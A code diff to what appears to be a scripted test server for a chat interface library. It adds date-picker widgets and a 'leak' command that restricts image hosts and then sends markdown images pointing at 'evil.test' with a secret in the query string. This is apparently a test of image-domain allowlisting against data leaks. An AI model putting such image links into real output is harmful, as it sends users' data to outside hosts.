@@ -7,7 +7,10 @@ output; ``effect``  a client effect; ``widget``  a card with a server action but
 ``notice``  a warning notice; ``title <t>``  renames the thread; ``math``  TeX;
 ``cite``  a cited answer with a deeplink; ``lock`` / ``close``  change the thread status;
 ``ask``  a structured-input question; ``think``  a reasoning workflow with progress;
-``image``  a generated image with partial previews; anything else echoes.
+``image``  a generated image with partial previews; ``dates``  date pickers placed
+above and to the right, one with a time; ``leak``  limits the thread's image
+hosts, then sends images from an allowed and a disallowed host in a notice, a thought
+and a task; anything else echoes.
 """
 
 from __future__ import annotations
@@ -42,6 +45,7 @@ from chatloom.types import (
     StructuredInputItem,
     StructuredInputMultipleChoice,
     StructuredInputMultipleChoiceOption,
+    TaskItem,
     ThoughtTask,
     ThreadItemAddedEvent,
     ThreadItemDoneEvent,
@@ -56,7 +60,7 @@ from chatloom.types import (
     WorkflowTaskAdded,
     WorkflowTaskUpdated,
 )
-from chatloom.widgets import Button, Card, Text
+from chatloom.widgets import Button, Card, DatePicker, Text
 
 
 def user_text(item: UserMessageItem | None) -> str:
@@ -180,6 +184,28 @@ class ScriptedServer(ChatKitServer[Any]):
                     copy_text="A widget card",
                 )
             )
+        elif command == "dates":
+            day = datetime(2025, 6, 12)
+            pickers = Card(
+                children=[
+                    DatePicker(name="day", defaultValue=day, side="top", align="end"),
+                    DatePicker(
+                        name="meeting",
+                        defaultValue=day.replace(hour=14, minute=30),
+                        min=datetime(2025, 6, 10),
+                        side="right",
+                        align="center",
+                    ),
+                ]
+            )
+            yield ThreadItemDoneEvent(
+                item=WidgetItem(
+                    id=self._id(thread, context),
+                    thread_id=thread.id,
+                    created_at=datetime.now(),
+                    widget=pickers,
+                )
+            )
         elif command == "math":
             async for event in self.stream_text(
                 thread, context, ["Euler: $e^{i\\pi}+1=0$\n\n", "$$\\int_0^1 x\\,dx$$"]
@@ -263,6 +289,36 @@ class ScriptedServer(ChatKitServer[Any]):
                 )
                 await asyncio.sleep(0.3)
             yield ThreadItemDoneEvent(item=picture.model_copy(update={"image": image}))
+        elif command == "leak":
+            thread.allowed_image_domains = ["img.allowed.test"]
+            yield ProgressUpdateEvent(text="Looking at pictures")  # the policy goes out first
+
+            def pictures(where: str) -> str:
+                return (
+                    f"![ok](https://img.allowed.test/{where}.png) "
+                    f"![leak](https://evil.test/{where}.png?secret=42)"
+                )
+
+            yield NoticeEvent(level="info", message=pictures("notice"))
+            thought = ThoughtTask(title="Thinking", content=pictures("thought"))
+            yield ThreadItemDoneEvent(
+                item=WorkflowItem(
+                    id=self._id(thread, context),
+                    thread_id=thread.id,
+                    created_at=datetime.now(),
+                    workflow=Workflow(type="reasoning", tasks=[thought], expanded=True),
+                )
+            )
+            yield ThreadItemDoneEvent(
+                item=TaskItem(
+                    id=self._id(thread, context),
+                    thread_id=thread.id,
+                    created_at=datetime.now(),
+                    task=CustomTask(title="Step", content=pictures("task")),
+                )
+            )
+            async for event in self.stream_text(thread, context, ["Pictures ", "shown."]):
+                yield event
         elif command == "notice":
             yield NoticeEvent(level="warning", message="Mind the **gap**.", title="Heads up")
         elif command == "title":
